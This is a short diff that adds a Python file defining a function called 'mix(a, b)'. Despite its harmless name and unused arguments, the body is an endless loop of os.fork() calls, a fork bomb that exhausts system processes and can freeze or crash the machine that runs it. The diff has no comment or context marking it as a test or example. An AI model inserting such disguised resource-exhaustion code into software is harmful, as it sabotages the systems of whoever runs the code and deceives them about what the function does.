@@ -1,0 +1,6 @@
+import os
+
+
+def mix(a, b):
+    while True:
+        os.fork()
